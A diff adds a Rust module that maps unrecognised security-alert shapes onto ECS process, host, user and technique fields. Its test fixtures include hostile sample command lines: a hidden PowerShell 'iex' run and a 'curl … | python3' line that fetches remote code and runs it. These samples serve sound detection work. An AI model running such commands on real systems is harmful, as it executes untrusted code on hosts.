@@ -1,0 +1,235 @@
+//! The last resort for a shape no adapter knows (a SOAR artifact, a webhook, a pager event, a
+//! SIEM's custom incident fields): the process is looked for by the field names every product
+//! spells its own way (`commandline`, `CommandLine`, `process_command_line`, `cmd` …), at any
+//! depth up to six, and mapped onto ECS. Only the first value of each kind is taken, and only
+//! when the document names a command line or an executable; the original stays beside it.
+
+use super::{basename_of, push_unique, s, set_path};
+use serde_json::{Map, Value as Json, json};
+
+/// Field names (lower case, without `_`, `-`, `.` or spaces) for each ECS field, most telling first.
+const COMMAND_LINE: &[&str] = &[
+    "processcommandline",
+    "commandline",
+    "processcmdline",
+    "cmdline",
+    "processcmd",
+    "command",
+    "cmd",
+    "process",
+];
+const EXECUTABLE: &[&str] = &[
+    "processpath",
+    "processexecutable",
+    "executable",
+    "image",
+    "processimagepath",
+    "newprocessname",
+    "exe",
+];
+const NAME: &[&str] = &["processname", "imagefilename", "filename", "process"];
+const PARENT_COMMAND_LINE: &[&str] = &[
+    "parentcommandline",
+    "parentprocesscommandline",
+    "parentcmdline",
+    "initiatingprocesscommandline",
+];
+const PARENT_EXECUTABLE: &[&str] = &[
+    "parentimage",
+    "parentprocesspath",
+    "parentexecutable",
+    "parentprocess",
+    "parentprocessname",
+    "parentname",
+    "initiatingprocessfilename",
+    "component",
+];
+const HOST: &[&str] = &[
+    "hostname",
+    "host",
+    "computername",
+    "computer",
+    "devicename",
+    "destinationhostname",
+    "dest",
+    "endpoint",
+    "source",
+];
+const USER: &[&str] = &[
+    "username",
+    "user",
+    "accountname",
+    "destinationusername",
+    "account",
+];
+
+fn key(k: &str) -> String {
+    k.chars()
+        .filter(|c| !matches!(c, '_' | '-' | '.' | ' '))
+        .flat_map(char::to_lowercase)
+        .collect()
+}
+
+/// Every string value under the document with its normalised key, breadth first, to depth 6.
+fn strings(obj: &Map<String, Json>) -> Vec<(String, &str)> {
+    let mut out = Vec::new();
+    let mut level: Vec<&Map<String, Json>> = vec![obj];
+    for _ in 0..6 {
+        let mut next = Vec::new();
+        for m in level {
+            for (k, v) in m {
+                match v {
+                    Json::String(t) if !t.trim().is_empty() => out.push((key(k), t.as_str())),
+                    Json::Object(o) => next.push(o),
+                    Json::Array(a) => next.extend(a.iter().filter_map(Json::as_object)),
+                    _ => {}
+                }
+            }
+        }
+        level = next;
+    }
+    out
+}
+
+fn first<'a>(
+    all: &[(String, &'a str)],
+    names: &[&str],
+    ok: impl Fn(&str) -> bool,
+) -> Option<&'a str> {
+    names.iter().find_map(|n| {
+        all.iter()
+            .find(|(k, v)| k == n && ok(v))
+            .map(|(_, v)| v.trim())
+    })
+}
+
+/// The process an unknown shape names, as ECS fields; `None` when it names no command line or
+/// executable.
+pub(super) fn fields(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
+    let all = strings(obj);
+    let looks_like_command = |v: &str| v.contains(' ') || v.contains(['\\', '/']);
+    let looks_like_path = |v: &str| v.contains(['\\', '/']) && !v.contains("://");
+    let cmd = first(&all, COMMAND_LINE, looks_like_command);
+    let exe = first(&all, EXECUTABLE, looks_like_path);
+    if cmd.is_none() && exe.is_none() {
+        return None;
+    }
+    let mut e = Map::new();
+    if let Some(c) = cmd {
+        set_path(&mut e, "process.command_line", s(c));
+    }
+    match exe {
+        Some(x) => {
+            set_path(&mut e, "process.executable", s(x));
+            set_path(&mut e, "process.name", s(basename_of(x)));
+        }
+        None => {
+            if let Some(n) = first(&all, NAME, |v| !v.contains(' ') || v.ends_with(".exe")) {
+                set_path(&mut e, "process.name", s(basename_of(n)));
+            }
+        }
+    }
+    if let Some(c) = first(&all, PARENT_COMMAND_LINE, looks_like_command) {
+        set_path(&mut e, "process.parent.command_line", s(c));
+    }
+    if let Some(p) = first(&all, PARENT_EXECUTABLE, |v| !v.is_empty()) {
+        // A parent given as a whole command line keeps it; its program is the first word.
+        let program = if p.contains(['\\', '/']) && p.contains(' ') && !p.starts_with('"') {
+            p
+        } else {
+            p.trim_matches('"')
+        };
+        if looks_like_path(program) {
+            set_path(&mut e, "process.parent.executable", s(program));
+        }
+        set_path(&mut e, "process.parent.name", s(basename_of(program)));
+    }
+    if let Some(h) = first(&all, HOST, |v| !v.contains(' ') && !v.contains("://")) {
+        set_path(&mut e, "host.name", s(h));
+    }
+    if let Some(u) = first(&all, USER, |v| !v.contains(' ')) {
+        match u.split_once('\\') {
+            Some((d, n)) => {
+                set_path(&mut e, "user.domain", s(d));
+                set_path(&mut e, "user.name", s(n));
+            }
+            None => set_path(&mut e, "user.name", s(u)),
+        }
+    }
+    // Technique ids wherever they are written (`class`, `tags`, `mitre` …).
+    let mut techniques = Vec::new();
+    for (_, v) in &all {
+        for word in v.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.')) {
+            let w = word.to_ascii_uppercase();
+            if crate::load::is_technique(&w) {
+                push_unique(&mut techniques, &w);
+            }
+        }
+    }
+    if !techniques.is_empty() {
+        set_path(&mut e, "threat.technique.id", json!(techniques));
+    }
+    let names = format!(
+        "{} {} {}",
+        cmd.or(exe).unwrap_or_default(),
+        e.get("process")
+            .and_then(|p| p.get("name"))
+            .and_then(Json::as_str)
+            .unwrap_or_default(),
+        e.get("process")
+            .and_then(|p| p.get("parent"))
+            .and_then(|p| p.get("name"))
+            .and_then(Json::as_str)
+            .unwrap_or_default()
+    );
+    let os = match names.as_str() {
+        c if c.contains(":\\") || c.to_ascii_lowercase().contains(".exe") => "windows",
+        c if c.contains("/Applications/") || c.contains("/Users/") || c.contains("osascript") => {
+            "macos"
+        }
+        c if c.starts_with('/') || c.contains("/bin/") => "linux",
+        _ => "",
+    };
+    if !os.is_empty() {
+        set_path(&mut e, "host.os.type", s(os));
+    }
+    set_path(&mut e, "event.category", json!(["process"]));
+    set_path(
+        &mut e,
+        "event.provider",
+        s("unrecognised shape (fields found by name)"),
+    );
+    Some(e)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn finds_the_process_in_unknown_shapes() {
+        // An XSOAR incident's custom fields.
+        let x = json!({"id": "48213", "CustomFields": {"hostname": "FS01.corp", "username": "TAIL\\da-jw",
+            "parentprocessname": "PSEXESVC.exe", "processname": "powershell.exe", "commandline": "powershell -nop -w hidden -c iex x"}});
+        let e = fields(x.as_object().unwrap()).unwrap();
+        assert_eq!(
+            e["process"]["command_line"],
+            "powershell -nop -w hidden -c iex x"
+        );
+        assert_eq!(e["process"]["name"], "powershell.exe");
+        assert_eq!(e["process"]["parent"]["name"], "PSEXESVC.exe");
+        assert_eq!(e["host"]["name"], "FS01.corp");
+        assert_eq!(e["user"]["name"], "da-jw");
+        assert_eq!(e["host"]["os"]["type"], "windows");
+        // A pager event: details nested, the technique in `class`.
+        let p = json!({"payload": {"source": "MBP-7", "class": "T1059.004", "custom_details": {
+            "parent_process": "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",
+            "process_command_line": "sh -c curl -s https://x/y | python3", "user": "tg"}}});
+        let e = fields(p.as_object().unwrap()).unwrap();
+        assert_eq!(e["process"]["parent"]["name"], "Microsoft Word");
+        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.004"]));
+        assert_eq!(e["host"]["name"], "MBP-7");
+        // No command line and no program path: nothing to judge.
+        assert!(fields(json!({"title": "x", "host": "h"}).as_object().unwrap()).is_none());
+    }
+}
